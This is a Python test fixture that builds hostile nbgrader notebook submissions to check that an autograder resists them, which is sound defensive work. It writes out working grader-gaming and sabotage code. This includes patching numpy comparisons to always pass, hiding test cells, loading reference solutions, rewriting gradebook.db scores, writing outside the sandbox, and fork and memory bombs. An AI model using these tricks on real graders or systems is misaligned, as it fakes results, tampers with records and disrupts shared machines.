"""Hostile submissions to problem set 2, built from its release notebook.

Each entry of ``HOSTILE`` turns the released notebook (every solution a
stub that raises NotImplementedError) into an attack, so the submission
deserves 0 points: any point it gets is undeserved.  The attack code
goes at the top of the first solution cell, where it runs both in the
nbgrader kernel and in the isolated run that computes the verdicts.

``SLOW`` names the attacks that spend their time limits (loops, bombs);
the test grades them in a second grader process beside the quick ones.
"""

from __future__ import annotations

import copy
import textwrap

FIRST_SOLUTION = "mae_solution"
MARKER = "lossopt-hostile-escaped"


def _cell(nb, grade_id):
    (cell,) = [c for c in nb.cells
               if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id]
    return cell


def prepend(code):
    """An attack: ``code`` runs before the stub of the first solution cell."""
    code = textwrap.dedent(code).strip("\n")

    def build(release, source):
        nb = copy.deepcopy(release)
        cell = _cell(nb, FIRST_SOLUTION)
        cell.source = code + "\n\n" + cell.source
        return nb
    return build


def is_test(cell):
    meta = cell.metadata.get("nbgrader", {})
    return meta.get("grade") and not meta.get("solution")


def delete_tests(base):
    def build(release, source):
        nb = copy.deepcopy(release if base == "release" else source)
        nb.cells = [c for c in nb.cells if not is_test(c)]
        return nb
    return build


def edit_tests(release, source):
    """Test cells emptied, unlocked, worth 100 points and renamed in metadata."""
    nb = copy.deepcopy(release)
    for cell in nb.cells:
        if is_test(cell):
            cell.source = "pass"
            cell.metadata["nbgrader"]["points"] = 100
            cell.metadata["nbgrader"]["locked"] = False
            cell.metadata["editable"] = True
            cell.metadata["nbgrader"].pop("checksum", None)
    return nb


def strip_metadata(release, source):
    """Every nbgrader mark removed: nothing says which cells are tests."""
    nb = copy.deepcopy(release)
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
    return nb


def not_a_notebook(release, source):
    return b"I am not a notebook {\x00\xff"


def leak(release, source):
    """Record every cell the kernel is sent; print them all at the end."""
    nb = prepend("""
        _seen = []
        def _record(lines):
            _seen.append(''.join(lines))
            return lines
        get_ipython().input_transformers_cleanup.append(_record)
    """)(release, source)
    last = copy.deepcopy(nb.cells[-1])
    last.cell_type = "code"
    last.metadata = {}
    last.source = "print('LEAK' + '\\n'.join(_seen))"
    last.outputs = []
    last.execution_count = None
    nb.cells.append(last)
    return nb


HOSTILE = {
    "h_allclose": prepend("""
        import numpy as np
        import numpy.testing
        np.allclose = lambda *a, **k: True
        np.isclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        numpy.testing.assert_allclose = lambda *a, **k: None
    """),
    "h_sys_modules": prepend("""
        import sys, types
        fake = types.ModuleType("numpy")
        fake.allclose = lambda *a, **k: True
        fake.asarray = lambda x, *a, **k: x
        sys.modules["numpy"] = fake
        ref = types.ModuleType("solutions")
        sys.modules["solutions"] = ref
        sys.modules["solutions.losses"] = ref
    """),
    "h_transformer": prepend("""
        ip = get_ipython()
        ip.input_transformers_cleanup.append(lambda lines: [])
    """),
    "h_shadow_np": prepend("""
        class _Yes:
            def __getattr__(self, name):
                return lambda *a, **k: True
        np = _Yes()
    """),
    "h_import_reference": prepend("""
        import importlib.util, os, sys
        here = os.path.abspath('.')
        guesses = ['/work/main', '/work', '/root', '/tmp', '/srv', '/home']
        d = here
        for _ in range(10):
            guesses.append(d)
            d = os.path.dirname(d)
        for d in guesses:
            for rel in ('solutions/losses.py', 'losses.py'):
                path = os.path.join(d, rel)
                if os.path.exists(path):
                    spec = importlib.util.spec_from_file_location('ref', path)
                    ref = importlib.util.module_from_spec(spec)
                    spec.loader.exec_module(ref)
                    globals().update(vars(ref))
            sys.path.append(d)
        try:
            from solutions.losses import *
        except ImportError:
            pass
    """),
    "h_gradebook": prepend("""
        import os, sqlite3
        d = os.path.abspath('.')
        for _ in range(10):
            path = os.path.join(d, 'gradebook.db')
            if os.path.exists(path):
                con = sqlite3.connect(path)
                con.execute('update grade set auto_score = 100')
                con.execute('delete from source_cell')
                con.commit()
            d = os.path.dirname(d)
        try:
            open('../../../gradebook.db', 'w').write('gone')
        except OSError:
            pass
    """),
    "h_write_outside": prepend(f"""
        import os
        targets = ['/tmp/{MARKER}', '../{MARKER}', '../../{MARKER}',
                   '../../../{MARKER}', '../../../source/ps2/ps2.ipynb',
                   '../../honest_full/ps2/ps2.ipynb',
                   '../../../submitted/honest_full/ps2/ps2.ipynb',
                   os.path.expanduser('~/{MARKER}'), '/root/{MARKER}']
        for target in targets:
            try:
                with open(target, 'w') as f:
                    f.write('pwned')
            except OSError:
                pass
    """),
    "h_output_flood": prepend("""
        import sys
        for _ in range(300):
            sys.stdout.write('flood ' * 20_000)
    """),
    "h_memory_bomb": prepend("""
        hog = []
        while True:
            hog.append(bytearray(64 * 2**20))
    """),
    "h_delete_tests": delete_tests("release"),
    "h_edit_tests": edit_tests,
    "h_strip_metadata": strip_metadata,
    "h_not_a_notebook": not_a_notebook,
    "h_leak_hidden": leak,
    # slow: they spend their time limits
    "h_infinite_loop": prepend("""
        while True:
            pass
    """),
    "h_ignore_interrupt": prepend("""
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        while True:
            pass
    """),
    "h_fork_bomb": prepend("""
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """),
}

SLOW = ("h_infinite_loop", "h_ignore_interrupt", "h_fork_bomb")


def honest_partial(release, source):
    """The reference everywhere except mae, left as the released stub."""
    nb = copy.deepcopy(source)
    _cell(nb, FIRST_SOLUTION).source = _cell(release, FIRST_SOLUTION).source
    return nb


def honest_full(release, source):
    return copy.deepcopy(source)


HONEST = {
    "honest_full": honest_full,
    "honest_partial": honest_partial,
    # deletes every test cell but solves everything: the restored tests pass
    "honest_no_tests": delete_tests("source"),
}
